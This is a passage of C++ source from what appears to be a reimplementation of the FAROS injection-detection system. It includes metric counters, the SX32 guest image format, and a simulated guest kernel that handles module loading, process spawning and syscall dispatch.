  kFileWriteSrcBytes,     // buffer bytes written to files
  kImageMapSrcBytes,      // image bytes tainted at map time
  kExportTagBytes,        // export-table / IAT bytes tagged

  // --- static analyzer (src/sa; farm --static-prefilter) ---
  kSaImagesAnalyzed,      // images run through sa::analyze_image
  kSaBlocksRecovered,     // basic blocks recovered across those images
  kSaInsnsDecoded,        // instructions inside recovered blocks
  kSaIndirectsResolved,   // kJr/kCallr sites resolved by the dataflow pass
  kSaRulesFired,          // lint findings emitted

  // --- rule engine (src/core/rules.h), one eval counter per trigger ---
  kRuleEvalsTaintedLoad,    // rule evaluations at tainted-load sites
  kRuleEvalsTaintedStore,   // ... at tainted-store sites
  kRuleEvalsExecPageWrite,  // ... at exec-page-write sites
  kRuleEvalsTaintedFetch,   // ... at tainted-fetch sites
  kRuleEvalsSyscallArg,     // ... at syscall-arg sites
  kRuleMatches,             // rules whose predicate conjunction held

  // --- block-translation cache (src/vm/btcache.h + engine elision) ---
  kBtTranslate,     // blocks decoded into the cache
  kBtHit,           // block dispatches served from the cache
  kBtEvictSmc,      // blocks evicted by a write into their code frame
  kBtEvictCr3,      // blocks evicted by process-exit / frame recycling
  kBtElidedBlocks,  // inert blocks the engine ran uninstrumented
  kBtGuardFail,     // elision declined (tainted regs / bound fetch rules)
  kBtElidedInsns,   // instructions covered by approved elisions
  kBtHintBlocks,    // blocks approved via a static summary elide hint
                    // (content-hash matched; beyond per-opcode inertness)

  // --- snapshot/COW guest cloning (os/snapshot.h; farm clone-per-job) ---
  kSnapClone,        // machines booted from the shared snapshot (2 per
                     // job with cloning on: record + replay)
  kCowFault,         // frames copied private on first write, both machines
  kSnapSharedPages,  // frames still snapshot-backed when the job finished

  // --- decoupled DIFT pipeline (src/core/pipeline.h), deterministic ---
  kRingRecords,   // trace records pushed (insn + bulk + window slots)
  kRingWindows,   // code windows captured and shipped to consumers
  kRingElideVeto, // producer declined an elide (dirty reg mask / maybe-
                  // tainted code frame under bound fetch rules)

  // ======================================================================
  // Everything from kRingProducerStalls on is NONDETERMINISTIC (thread-
  // scheduling artifacts) and is excluded from append_counter_fields, so
  // the deterministic metrics JSONL schema ends at kRingElideVeto. Add new
  // deterministic counters ABOVE this line (see kFirstNondetCtr below).
  kRingProducerStalls,  // yield loops with the ring full
  kRingConsumerWaits,   // yield loops with the ring empty
  kRingMaxDepth,        // high-water slot occupancy

  kCount,
};

inline constexpr u32 kCtrCount = static_cast<u32>(Ctr::kCount);

/// First nondeterministic counter. [0, kFirstNondetCtr) is the
/// deterministic serialised schema; [kFirstNondetCtr, kCtrCount) holds
/// thread-scheduling artifacts (ring stalls/waits/depth) that stay out of
/// every byte-diffed stream, like timers do.
inline constexpr u32 kFirstNondetCtr =
    static_cast<u32>(Ctr::kRingProducerStalls);

/// Stable snake_case name for serialisation ("shadow_frame_cache_hit", ...).
const char* ctr_name(Ctr c);

/// Timer taxonomy (wall-clock accumulators; nondeterministic by nature).
enum class Tmr : u32 {
  kRecord = 0,  // live record phase of a farm job
  kReplay,      // replay-under-FAROS phase of a farm job
  kStatic,      // static-prefilter phase (image extraction + sa::analyze)
  kCount,
};

inline constexpr u32 kTmrCount = static_cast<u32>(Tmr::kCount);

const char* tmr_name(Tmr t);

struct MetricSnapshot;

/// Appends one `"<ctr_name>":<value>` field per counter to `w`, in enum
/// order — the stable schema every metrics JSONL consumer relies on.
/// Timers are deliberately not emitted (wall-clock, nondeterministic).
void append_counter_fields(JsonWriter& w, const MetricSnapshot& m);

/// Value snapshot of a sink: what JobResult carries and the results layer
/// serialises. Counters are deterministic; timer_ns is wall-clock and must
/// never enter a determinism-checked byte stream.
struct MetricSnapshot {
  bool collected = false;
  std::array<u64, kCtrCount> counters{};
  std::array<u64, kTmrCount> timer_ns{};

  u64 operator[](Ctr c) const { return counters[static_cast<u32>(c)]; }

  /// Element-wise accumulation (farm aggregation across jobs).
  void merge(const MetricSnapshot& other) {
    if (!other.collected) return;
    collected = true;
    for (u32 i = 0; i < kCtrCount; ++i) counters[i] += other.counters[i];
    for (u32 i = 0; i < kTmrCount; ++i) timer_ns[i] += other.timer_ns[i];
  }
};

/// The metric store: one flat allocation of cells. Single-threaded by
/// contract (each engine/job owns its own sink).
class MetricSink {
 public:
  /// Address of a counter cell, for Counter binding.
  u64* cell(Ctr c) { return &counters_[static_cast<u32>(c)]; }

  void add(Ctr c, u64 n = 1) { counters_[static_cast<u32>(c)] += n; }
  void set(Ctr c, u64 v) { counters_[static_cast<u32>(c)] = v; }
  u64 value(Ctr c) const { return counters_[static_cast<u32>(c)]; }

  void add_timer_ns(Tmr t, u64 ns) { timer_ns_[static_cast<u32>(t)] += ns; }
  u64 timer_ns(Tmr t) const { return timer_ns_[static_cast<u32>(t)]; }

  MetricSnapshot snapshot() const {
    MetricSnapshot s;
    s.collected = true;
    s.counters = counters_;
    s.timer_ns = timer_ns_;
    return s;
  }

  void reset() {
    counters_.fill(0);
    timer_ns_.fill(0);
  }

 private:
  std::array<u64, kCtrCount> counters_{};
  std::array<u64, kTmrCount> timer_ns_{};
};

/// Bound counter handle. Default-constructed (or bound to a null sink) it
/// is a no-op; bound to a sink it increments one pre-resolved cell.
class Counter {
 public:
  Counter() = default;
  Counter(MetricSink* sink, Ctr id)
#ifndef FAROS_OBS_DISABLED
      : cell_(sink ? sink->cell(id) : nullptr)
#endif
  {
    (void)sink;
    (void)id;
  }

  void inc(u64 n = 1) {
#ifndef FAROS_OBS_DISABLED
    if (cell_) *cell_ += n;
#else
    (void)n;
#endif
  }

 private:
#ifndef FAROS_OBS_DISABLED
  u64* cell_ = nullptr;
#endif
};

/// RAII wall-clock timer; adds elapsed ns to `id` on scope exit. Null sink
/// (or FAROS_OBS_DISABLED) means no clock is ever read.
class ScopedTimer {
 public:
  ScopedTimer(MetricSink* sink, Tmr id)
#ifndef FAROS_OBS_DISABLED
      : sink_(sink), id_(id) {
    if (sink_) start_ = std::chrono::steady_clock::now();
  }
#else
  {
    (void)sink;
    (void)id;
  }
#endif

  ScopedTimer(const ScopedTimer&) = delete;
  ScopedTimer& operator=(const ScopedTimer&) = delete;

  ~ScopedTimer() {
#ifndef FAROS_OBS_DISABLED
    if (sink_) {
      auto ns = std::chrono::duration_cast<std::chrono::nanoseconds>(
                    std::chrono::steady_clock::now() - start_)
                    .count();
      sink_->add_timer_ns(id_, static_cast<u64>(ns));
    }
#endif
  }

 private:
#ifndef FAROS_OBS_DISABLED
  MetricSink* sink_ = nullptr;
  Tmr id_ = Tmr::kRecord;
  std::chrono::steady_clock::time_point start_{};
#endif
};

}  // namespace faros::obs
