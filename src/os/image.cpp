#include "os/image.h"

namespace faros::os {

namespace {
constexpr u32 kMagic = 0x53583332;  // "SX32"
constexpr u32 kVersion = 1;
}  // namespace

Bytes Image::serialize() const {
  ByteWriter w;
  w.put_u32(kMagic);
  w.put_u32(kVersion);
  w.put_str(name);
  w.put_u32(base_va);
  w.put_u32(entry_offset);
  w.put_blob(blob);
  w.put_u32(static_cast<u32>(imports.size()));
  for (const auto& imp : imports) {
    w.put_u32(imp.module_hash);
    w.put_u32(imp.symbol_hash);
    w.put_u32(imp.slot_offset);
  }
  w.put_u32(static_cast<u32>(exports.size()));
  for (const auto& exp : exports) {
    w.put_u32(exp.symbol_hash);
    w.put_u32(exp.offset);
  }
  return w.take();
}

Result<Image> Image::deserialize(ByteSpan data) {
  ByteReader r(data);
  if (r.get_u32() != kMagic) return Err<Image>("image: bad magic");
  if (r.get_u32() != kVersion) return Err<Image>("image: bad version");
  Image img;
  img.name = r.get_str();
  img.base_va = r.get_u32();
  img.entry_offset = r.get_u32();
  img.blob = r.get_blob();
  u32 n_imports = r.get_u32();
  if (!r.ok() || n_imports > 4096) return Err<Image>("image: truncated");
  for (u32 i = 0; i < n_imports; ++i) {
    ImportEntry imp;
    imp.module_hash = r.get_u32();
    imp.symbol_hash = r.get_u32();
    imp.slot_offset = r.get_u32();
    img.imports.push_back(imp);
  }
  u32 n_exports = r.get_u32();
  if (!r.ok() || n_exports > 4096) return Err<Image>("image: truncated");
  for (u32 i = 0; i < n_exports; ++i) {
    ExportEntry exp;
    exp.symbol_hash = r.get_u32();
    exp.offset = r.get_u32();
    img.exports.push_back(exp);
  }
  if (!r.ok()) return Err<Image>("image: truncated");
  if (img.entry_offset >= img.blob.size() && !img.blob.empty()) {
    return Err<Image>("image: entry point outside blob");
  }
  return img;
}

void ImageBuilder::import_symbol(const std::string& module,
                                 const std::string& symbol,
                                 const std::string& slot_label) {
  imports_.push_back(
      PendingImport{fnv1a32(module), fnv1a32(symbol), slot_label});
}

void ImageBuilder::export_symbol(const std::string& symbol,
                                 const std::string& label) {
  exports_.push_back(PendingExport{fnv1a32(symbol), label});
}

Result<Image> ImageBuilder::build() const {
  Image img;
  img.name = name_;
  img.base_va = base_va_;
  auto blob = asm__.assemble(base_va_);
  if (!blob.ok()) return Err<Image>(blob.error().message);
  img.blob = std::move(blob).take();
  auto entry = asm__.label_offset(entry_label_);
  if (!entry.ok()) {
    return Err<Image>("image '" + name_ + "': " + entry.error().message);
  }
  img.entry_offset = entry.value();
  for (const auto& imp : imports_) {
    auto off = asm__.label_offset(imp.slot_label);
    if (!off.ok()) return Err<Image>(off.error().message);
    img.imports.push_back(
        ImportEntry{imp.module_hash, imp.symbol_hash, off.value()});
  }
  for (const auto& exp : exports_) {
    auto off = asm__.label_offset(exp.label);
    if (!off.ok()) return Err<Image>(off.error().message);
    img.exports.push_back(ExportEntry{exp.symbol_hash, off.value()});
  }
  return img;
}

}  // namespace faros::os
