// SX32 — the guest executable/module format (the reproduction's "Portable
// Executable"). An image is a single contiguous blob assembled for a fixed
// base address, plus an entry point, an import table (IAT slots the loader
// patches with resolved addresses), and an export table (symbol hash ->
// offset) that the loader materialises as a guest-memory structure.
#pragma once

#include <string>
#include <vector>

#include "common/bytesio.h"
#include "common/hash.h"
#include "common/result.h"
#include "common/types.h"
#include "vm/assembler.h"

namespace faros::os {

/// One import: the loader resolves (module_hash, symbol_hash) against the
/// module registry and writes the 32-bit address into the IAT slot at
/// `slot_offset` within the image.
struct ImportEntry {
  u32 module_hash = 0;
  u32 symbol_hash = 0;
  u32 slot_offset = 0;
};

/// One export: symbol hash -> offset of the function within the image.
struct ExportEntry {
  u32 symbol_hash = 0;
  u32 offset = 0;
};

struct Image {
  std::string name;      // "notepad.exe"
  u32 base_va = 0;       // address the blob was assembled for
  u32 entry_offset = 0;  // entry point, relative to base_va
  Bytes blob;            // code + data, loaded contiguously at base_va
  std::vector<ImportEntry> imports;
  std::vector<ExportEntry> exports;

  u32 entry_va() const { return base_va + entry_offset; }

  /// On-disk form stored in the VFS (what NtCreateProcess loads).
  Bytes serialize() const;
  static Result<Image> deserialize(ByteSpan data);
};

/// Builds an Image from an Assembler program. Labels named in imports and
/// exports are resolved against the assembler's label table.
class ImageBuilder {
 public:
  ImageBuilder(std::string name, u32 base_va)
      : name_(std::move(name)), base_va_(base_va) {}

  vm::Assembler& asm_() { return asm__; }

  /// Declares an IAT slot: 4 zero bytes at label `slot_label` that the
  /// loader patches with the address of `module!symbol`.
  void import_symbol(const std::string& module, const std::string& symbol,
                     const std::string& slot_label);

  /// Exports the function at `label` under `symbol`.
  void export_symbol(const std::string& symbol, const std::string& label);

  void set_entry(const std::string& label) { entry_label_ = label; }

  Result<Image> build() const;

 private:
  struct PendingImport {
    u32 module_hash;
    u32 symbol_hash;
    std::string slot_label;
  };
  struct PendingExport {
    u32 symbol_hash;
    std::string label;
  };

  std::string name_;
  u32 base_va_;
  vm::Assembler asm__;
  std::string entry_label_ = "_start";
  std::vector<PendingImport> imports_;
  std::vector<PendingExport> exports_;
};

/// Conventional load addresses (see DESIGN.md memory map).
inline constexpr u32 kUserImageBase = 0x00400000;
inline constexpr u32 kUserStackTop = 0x7fff0000;
inline constexpr u32 kUserStackSize = 0x10000;
inline constexpr u32 kUserHeapBase = 0x10000000;
inline constexpr u32 kUserAllocBase = 0x20000000;

}  // namespace faros::os
