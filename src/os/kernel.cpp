#include "os/kernel.h"

#include <algorithm>

#include "common/log.h"
#include "common/strings.h"
#include "os/runtime.h"
#include "os/snapshot.h"

namespace faros::os {

using vm::AccessType;
using vm::AddressSpace;
using vm::kPageSize;
using vm::kPteExec;
using vm::kPteUser;
using vm::kPteWrite;

namespace {
constexpr u32 kDefaultGuestIp = 0xa9fe39a8;  // 169.254.57.168 (Table II)

/// A snapshot clone runs copy-on-write over the frozen RAM image; a cold
/// kernel owns flat zeroed RAM (guaranteed copy elision constructs mem_
/// in place either way).
vm::PhysMem make_phys(const KernelConfig& cfg) {
  if (cfg.snapshot) return vm::PhysMem(cfg.snapshot->ram);
  return vm::PhysMem(cfg.ram_bytes);
}
}  // namespace

Kernel::Kernel(const KernelConfig& cfg)
    : cfg_(cfg),
      mem_(make_phys(cfg)),
      frames_(mem_.num_frames()),
      interp_(mem_),
      net_(cfg.guest_ip ? cfg.guest_ip : kDefaultGuestIp),
      rng_(cfg.rng_seed) {
  // Frame 0 stays reserved so a zero CR3/frame is never valid.
  frames_.reserve(0);
  interp_.set_block_cache_enabled(cfg.block_cache);
  frames_.set_free_observer([this](PAddr frame) {
    // Translated blocks must never outlive the frame holding their bytes:
    // the next owner of this frame gets fresh translations.
    interp_.invalidate_code_frame(frame);
    monitors_.on_frame_recycled(frame);
  });
}

Kernel::~Kernel() = default;

Result<void> Kernel::boot() {
  if (cfg_.snapshot) return boot_from_snapshot(*cfg_.snapshot);

  auto as = AddressSpace::create(mem_, frames_);
  if (!as.ok()) return Err<void>(as.error().message);
  kernel_as_ = as.value();

  // Pre-create every kernel-half page table so the directory entries are
  // stable before any process shares them.
  for (VAddr va = vm::kKernelBase; va < KernelLayout::kKernelTablesEnd;
       va += (kPageSize * vm::kEntriesPerTable)) {
    auto r = kernel_as_.ensure_table(va);
    if (!r.ok()) return r;
  }

  // Module directory page: user-readable, kernel-writable.
  auto r = kernel_as_.map_alloc(KernelLayout::kModuleDir, kPageSize, kPteUser);
  if (!r.ok()) return r;

  auto ntdll = build_ntdll();
  if (!ntdll.ok()) return Err<void>(ntdll.error().message);
  r = load_module(ntdll.value());
  if (!r.ok()) return r;

  auto user32 = build_user32();
  if (!user32.ok()) return Err<void>(user32.error().message);
  r = load_module(user32.value());
  if (!r.ok()) return r;

  auto kernel32 = build_kernel32();
  if (!kernel32.ok()) return Err<void>(kernel32.error().message);
  r = load_module(kernel32.value());
  if (!r.ok()) return r;

  booted_ = true;
  return Ok();
}

Result<void> Kernel::boot_from_snapshot(const Snapshot& snap) {
  // The image is only valid for the exact config it was captured from; a
  // mismatched clone would run against silently wrong memory contents.
  if (snap.ram_bytes != cfg_.ram_bytes || snap.guest_ip != cfg_.guest_ip ||
      snap.rng_seed != cfg_.rng_seed) {
    return Err<void>("snapshot: config mismatch with captured image");
  }
  frames_.restore(snap.frames);
  kernel_as_ = AddressSpace::adopt(mem_, frames_, snap.kernel_cr3);
  modules_ = snap.modules;
  booted_ = true;
  // Re-publish the boot-time module events in load order: monitors attach
  // before boot() (the farm's replay setup), and a cold boot is exactly
  // "no guest instructions + one on_module_loaded per runtime module", so
  // replaying that sequence reconstructs identical monitor state (export-
  // table tags included).
  for (const auto& m : modules_) monitors_.on_module_loaded(m, kernel_as_);
  return Ok();
}

Result<void> Kernel::map_and_copy(AddressSpace& as, VAddr base, ByteSpan blob,
                                  u32 final_flags) {
  auto r = as.map_alloc(base, static_cast<u32>(blob.size()), final_flags);
  if (!r.ok()) return r;
  return as.copy_in(base, blob, /*user=*/false);
}

Result<void> Kernel::load_module(const Image& img) {
  const u32 code_len = static_cast<u32>(img.blob.size());
  auto r = map_and_copy(kernel_as_, img.base_va, img.blob,
                        kPteUser | kPteExec);
  if (!r.ok()) return r;

  // Materialise the export table right after the code pages: the guest-
  // visible structure is [count][hash,addr]*count.
  VAddr exports_va = img.base_va + vm::page_ceil(code_len);
  u32 table_len = 4 + 8 * static_cast<u32>(img.exports.size());
  r = kernel_as_.map_alloc(exports_va, table_len, kPteUser);
  if (!r.ok()) return r;
  ByteWriter w;
  w.put_u32(static_cast<u32>(img.exports.size()));
  for (const auto& exp : img.exports) {
    w.put_u32(exp.symbol_hash);
    w.put_u32(img.base_va + exp.offset);
  }
  r = kernel_as_.copy_in(exports_va, w.bytes(), /*user=*/false);
  if (!r.ok()) return r;

  osi::ModuleInfo mod;
  mod.name = img.name;
  mod.name_hash = fnv1a32(img.name);
  mod.base = img.base_va;
  mod.size = vm::page_ceil(code_len) + vm::page_ceil(table_len);
  mod.exports_va = exports_va;
  mod.export_count = static_cast<u32>(img.exports.size());
  modules_.push_back(mod);

  // Refresh the guest module directory.
  ByteWriter dir;
  dir.put_u32(static_cast<u32>(modules_.size()));
  for (const auto& m : modules_) {
    dir.put_u32(m.name_hash);
    dir.put_u32(m.base);
    dir.put_u32(m.exports_va);
    dir.put_u32(m.export_count);
  }
  r = kernel_as_.copy_in(KernelLayout::kModuleDir, dir.bytes(),
                         /*user=*/false);
  if (!r.ok()) return r;

  monitors_.on_module_loaded(mod, kernel_as_);
  return Ok();
}

Result<Pid> Kernel::spawn(const std::string& path, bool suspended,
                          Pid parent) {
  auto raw = vfs_.read_all(path);
  if (!raw.ok()) return Err<Pid>("spawn: " + raw.error().message);
  auto img = Image::deserialize(raw.value());
  if (!img.ok()) return Err<Pid>("spawn: " + img.error().message);
  const Image& image = img.value();
  if (image.base_va >= vm::kKernelBase) {
    return Err<Pid>("spawn: user image with kernel base address");
  }

  auto as = AddressSpace::create(mem_, frames_);
  if (!as.ok()) return Err<Pid>("spawn: " + as.error().message);
  AddressSpace space = as.value();
  space.share_directory_range(kernel_as_, vm::kKernelBase, 0xffffffffu);

  // Image pages: RWX+user, single-blob mapping (see DESIGN.md). The malfind
  // baseline distinguishes injected memory by region kind, not page bits.
  auto r = map_and_copy(space, image.base_va, image.blob,
                        kPteUser | kPteWrite | kPteExec);
  if (!r.ok()) return Err<Pid>("spawn: " + r.error().message);

  // Resolve imports against loaded modules (native loader path; benign
  // loads never touch export tables with guest instructions).
  for (const ImportEntry& imp : image.imports) {
    const osi::ModuleInfo* mod = nullptr;
    for (const auto& m : modules_) {
      if (m.name_hash == imp.module_hash) {
        mod = &m;
        break;
      }
    }
    if (!mod) return Err<Pid>("spawn: unresolved import module");
    // Export tables are host-known too; read the guest structure.
    u32 addr = 0;
    for (u32 i = 0; i < mod->export_count; ++i) {
      VAddr entry = mod->exports_va + 4 + i * 8;
      if (kernel_as_.read32_or(entry, 0) == imp.symbol_hash) {
        addr = kernel_as_.read32_or(entry + 4, 0);
        break;
      }
    }
    if (addr == 0) return Err<Pid>("spawn: unresolved import symbol");
    ByteWriter w;
    w.put_u32(addr);
    auto wr = space.copy_in(image.base_va + imp.slot_offset, w.bytes(),
                            /*user=*/false);
    if (!wr.ok()) return Err<Pid>("spawn: " + wr.error().message);
  }

  // Stack.
  r = space.map_alloc(kUserStackTop - kUserStackSize, kUserStackSize,
                      kPteUser | kPteWrite);
  if (!r.ok()) return Err<Pid>("spawn: " + r.error().message);

  Pid pid = next_pid_++;
  Process proc;
  proc.pid = pid;
  proc.parent = parent;
  proc.name = image.name;
  proc.image_path = path;
  proc.as = space;
  proc.cpu.set_pc(image.entry_va());
  proc.cpu.regs[vm::SP] = kUserStackTop - 16;
  proc.state = suspended ? ProcState::kSuspended : ProcState::kReady;
  proc.alloc_cursor = kUserAllocBase;
  proc.regions.push_back(Region{Region::Kind::kImage, image.base_va,
                                vm::page_ceil(static_cast<u32>(
                                    image.blob.size())),
                                kProtRead | kProtWrite | kProtExec, path});
  proc.regions.push_back(Region{Region::Kind::kStack,
                                kUserStackTop - kUserStackSize,
                                kUserStackSize, kProtRead | kProtWrite, ""});

  auto [it, inserted] = procs_.emplace(pid, std::move(proc));
  sched_order_.push_back(pid);
  Process& p = it->second;

  // The loader read the image file: bump its access version and publish
  // the mapping so FAROS can apply a file tag to the image bytes.
  auto ver = vfs_.touch(path);
  auto st = vfs_.stat(path);
  monitors_.on_process_start(p.info());
  if (st.ok()) {
    monitors_.on_image_mapped(p.info(), p.as, image.base_va,
                              static_cast<u32>(image.blob.size()),
                              st.value().file_id, path,
                              ver.ok() ? ver.value() : 0);
  }
  // IAT slots hold pointers the loader derived from export tables; publish
  // them after on_image_mapped so the export tag layers on the file tag.
  for (const ImportEntry& imp : image.imports) {
    monitors_.on_iat_resolved(p.info(), p.as,
                              image.base_va + imp.slot_offset);
  }
  return pid;
}

Process* Kernel::find(Pid pid) {
  auto it = procs_.find(pid);
  return it == procs_.end() ? nullptr : &it->second;
}

const Process* Kernel::find(Pid pid) const {
  auto it = procs_.find(pid);
  return it == procs_.end() ? nullptr : &it->second;
}

Process* Kernel::find_by_name(const std::string& name) {
  for (auto& [pid, p] : procs_) {
    if (p.alive() && p.name == name) return &p;
  }
  return nullptr;
}

void Kernel::terminate(Process& p, u32 exit_code) {
  if (p.state == ProcState::kTerminated) return;
  p.state = ProcState::kTerminated;
  p.exit_code = exit_code;
  p.wait = PendingWait{};
  net_.close_all_for(p.pid);
  p.handles.clear();
  monitors_.on_process_exit(p.info(), exit_code);
  // Drop the dying space's translated blocks before its CR3 frame returns
  // to the allocator — a recycled CR3 must start with a cold cache.
  interp_.evict_cr3_blocks(p.as.cr3());
  p.as.destroy(/*free_user_frames=*/true);
}

u32 Kernel::live_count() const {
  u32 n = 0;
  for (const auto& [pid, p] : procs_) {
    if (p.alive()) ++n;
  }
  return n;
}

Process* Kernel::pick_next() {
  const size_t n = sched_order_.size();
  for (size_t i = 0; i < n; ++i) {
    size_t idx = (sched_cursor_ + i) % n;
    Process* p = find(sched_order_[idx]);
    if (!p) continue;
    if (p->state == ProcState::kBlocked) {
      if (!try_complete_wait(*p)) continue;
    }
    if (p->state == ProcState::kReady) {
      sched_cursor_ = idx + 1;
      return p;
    }
  }
  return nullptr;
}

u32 Kernel::resolve_host(const std::string& host) const {
  auto it = dns_.find(host);
  if (it != dns_.end()) return it->second;
  // Deterministic fake internet: hash the name into a public-ish /8.
  u32 h = fnv1a32(host);
  return 0x5d000000u | (h & 0x00ffffffu);  // 93.x.y.z
}

u64 Kernel::run_process(Process& p, u64 quantum) {
  auto info = interp_.run(p.cpu, p.as, quantum);
  p.instr_retired += info.executed;
  switch (info.result) {
    case vm::StepResult::kBudget: break;
    case vm::StepResult::kSyscall: dispatch_syscall(p); break;
    case vm::StepResult::kHalt: terminate(p, p.cpu.regs[vm::R1]); break;
    case vm::StepResult::kTrap: {
      std::string msg =
          strf("%s (pid %u) trapped: %s @%s", p.name.c_str(), p.pid,
               vm::trap_kind_name(info.trap), hex32(info.pc).c_str());
      if (info.trap == vm::TrapKind::kMemFault) {
        msg += strf(" (%s at %s)", vm::fault_kind_name(info.fault.kind),
                    hex32(info.fault.va).c_str());
      }
      trap_log_.push_back(msg);
      FAROS_DEBUG() << msg;
      terminate(p, 0xdead);
      break;
    }
  }
  return info.executed;
}

bool Kernel::deliver_packet(const FlowTuple& flow, ByteSpan data) {
  return net_.deliver(flow, data);
}

void Kernel::deliver_device(u32 device_id, ByteSpan data) {
  device_queues_[device_id].push_back(Bytes(data.begin(), data.end()));
}

std::optional<osi::ProcessInfo> Kernel::process_by_cr3(PAddr cr3) const {
  for (const auto& [pid, p] : procs_) {
    if (p.as.cr3() == cr3 && p.alive()) return p.info();
  }
  return std::nullopt;
}

std::vector<osi::ProcessInfo> Kernel::process_list() const {
  std::vector<osi::ProcessInfo> out;
  out.reserve(procs_.size());
  for (const auto& [pid, p] : procs_) out.push_back(p.info());
  return out;
}

// ---------------------------------------------------------------------------
// Guest copies (taint-aware: callers publish the semantic event afterwards).

Result<void> Kernel::copy_to_guest(Process& p, VAddr dst, ByteSpan data) {
  auto r = p.as.copy_in(dst, data, /*user=*/true);
  if (r.ok()) {
    osi::GuestXfer xfer{p.info(), &p.as, dst, static_cast<u32>(data.size())};
    monitors_.on_kernel_write(xfer);
  }
  return r;
}

Result<Bytes> Kernel::copy_from_guest(Process& p, VAddr src, u32 len) {
  Bytes out(len);
  auto r = p.as.copy_out(src, out, /*user=*/true);
  if (!r.ok()) return Err<Bytes>(r.error().message);
  return out;
}

Result<std::string> Kernel::read_path_arg(Process& p, VAddr va) {
  return p.as.read_cstr(va, 512, /*user=*/true);
}

u32 Kernel::alloc_handle(Process& p, Handle h) {
  u32 id = p.next_handle++;
  p.handles[id] = std::move(h);
  return id;
}

// ---------------------------------------------------------------------------
// Syscall dispatch.

void Kernel::dispatch_syscall(Process& p) {
  const u32 num = p.cpu.regs[vm::R0];
  ++syscall_count_;

  osi::SyscallEvent ev;
  ev.proc = p.info();
  ev.number = num;
  ev.name = syscall_name(num);
  ev.args[0] = p.cpu.regs[vm::R1];
  ev.args[1] = p.cpu.regs[vm::R2];
  ev.args[2] = p.cpu.regs[vm::R3];
  ev.args[3] = p.cpu.regs[vm::R4];
  monitors_.on_syscall(ev);

  const Sys sys = static_cast<Sys>(num);
  if (num >= 1 && num <= 15) {
    sys_file(p, sys);
  } else if (num >= 20 && num <= 25) {
    sys_memory(p, sys);
  } else if (num >= 30 && num <= 38) {
    sys_process(p, sys);
  } else if (num >= 40 && num <= 46) {
    sys_net(p, sys);
  } else if (num >= 50 && num <= 59) {
    sys_misc(p, sys);
  } else {
    p.cpu.regs[vm::R0] = kNtError;
  }
}

}  // namespace faros::os
