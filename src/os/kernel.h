// WinSim: the simulated guest operating system. Owns guest RAM, the frame
// allocator, the interpreter, the VFS, the network stack, the module
// registry and the process table; services syscalls natively.
//
// Whole-system taint fidelity: every byte the kernel moves on behalf of a
// process flows through copy helpers that publish semantic events on the
// MonitorBus (see src/introspection). The paper's FAROS achieves the same
// coverage by emulating kernel instructions; here the kernel is native, so
// the taint engine hooks the copies instead (substitution documented in
// DESIGN.md).
#pragma once

#include <deque>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "common/rng.h"
#include "introspection/monitor.h"
#include "os/image.h"
#include "os/netstack.h"
#include "os/process.h"
#include "os/syscalls.h"
#include "os/vfs.h"
#include "vm/cpu.h"
#include "vm/replay.h"

namespace faros::os {

struct Snapshot;  // os/snapshot.h

struct KernelConfig {
  u32 ram_bytes = 64u << 20;
  u32 guest_ip = 0;     // 0 -> default 169.254.57.168
  u64 rng_seed = 1;     // NtGetRandom stream (deterministic)
  u32 max_debug_lines = 4096;
  bool block_cache = true;  // block-translation cache (vm/btcache.h)
  /// When set, boot() restores this frozen booted-guest image (COW over
  /// its RAM) instead of building the kernel state from scratch; see
  /// os/snapshot.h for the determinism contract. The config must match
  /// the one the snapshot was captured from.
  std::shared_ptr<const Snapshot> snapshot;
};

/// OSI query surface (what PANDA's OSI plugin exposes): FAROS resolves the
/// CR3 on each executed instruction to a process identity through this.
class OsiQuery {
 public:
  virtual ~OsiQuery() = default;
  virtual std::optional<osi::ProcessInfo> process_by_cr3(PAddr cr3) const = 0;
  virtual std::vector<osi::ProcessInfo> process_list() const = 0;
};

class Kernel : public OsiQuery {
 public:
  explicit Kernel(const KernelConfig& cfg);
  ~Kernel();

  Kernel(const Kernel&) = delete;
  Kernel& operator=(const Kernel&) = delete;

  /// Creates the kernel address space, pre-builds the kernel-half page
  /// tables, and loads the runtime modules (ntdll, user32).
  Result<void> boot();

  // --- subsystem access ---
  Vfs& vfs() { return vfs_; }
  NetStack& net() { return net_; }
  osi::MonitorBus& monitors() { return monitors_; }
  vm::Interpreter& interp() { return interp_; }
  vm::PhysMem& phys_mem() { return mem_; }
  const vm::PhysMem& phys_mem() const { return mem_; }
  const vm::FrameAllocator& frame_alloc() const { return frames_; }
  const vm::AddressSpace& kernel_as() const { return kernel_as_; }
  const std::vector<osi::ModuleInfo>& modules() const { return modules_; }

  // --- process management ---
  /// Loads an SX32 image from the VFS and creates a process.
  Result<Pid> spawn(const std::string& path, bool suspended = false,
                    Pid parent = 0);
  Process* find(Pid pid);
  const Process* find(Pid pid) const;
  Process* find_by_name(const std::string& name);
  void terminate(Process& p, u32 exit_code);
  /// Number of processes that are not terminated.
  u32 live_count() const;

  // --- scheduling (driven by Machine) ---
  /// Next runnable process (round robin); completes satisfiable waits on
  /// the way. Returns nullptr when nothing can run.
  Process* pick_next();
  /// Runs `p` for at most `quantum` instructions; handles syscalls, traps
  /// and halts. Returns the number of instructions retired.
  u64 run_process(Process& p, u64 quantum);

  // --- external event delivery (from Machine record/replay) ---
  bool deliver_packet(const FlowTuple& flow, ByteSpan data);
  void deliver_device(u32 device_id, ByteSpan data);

  // --- OsiQuery ---
  std::optional<osi::ProcessInfo> process_by_cr3(PAddr cr3) const override;
  std::vector<osi::ProcessInfo> process_list() const override;

  /// Registers a DNS name for NtResolveHost (unknown names resolve to a
  /// deterministic hash-derived address).
  void add_dns(const std::string& host, u32 ip) { dns_[host] = ip; }
  u32 resolve_host(const std::string& host) const;

  /// All NtDebugPrint output, "<proc>: <text>" per line (test oracle).
  const std::vector<std::string>& console() const { return console_; }

  /// Trap diagnostics ("<proc> trapped: <kind> @pc").
  const std::vector<std::string>& trap_log() const { return trap_log_; }

  u64 syscall_count() const { return syscall_count_; }

 private:
  Result<void> boot_from_snapshot(const Snapshot& snap);
  Result<void> load_module(const Image& img);
  Result<void> map_and_copy(vm::AddressSpace& as, VAddr base, ByteSpan blob,
                            u32 final_flags);
  void dispatch_syscall(Process& p);
  /// Attempts to complete a blocked process' pending wait.
  bool try_complete_wait(Process& p);

  // Taint-aware guest copies: perform the raw copy, then publish the event.
  Result<void> copy_to_guest(Process& p, VAddr dst, ByteSpan data);
  Result<Bytes> copy_from_guest(Process& p, VAddr src, u32 len);

  Result<std::string> read_path_arg(Process& p, VAddr va);
  u32 alloc_handle(Process& p, Handle h);

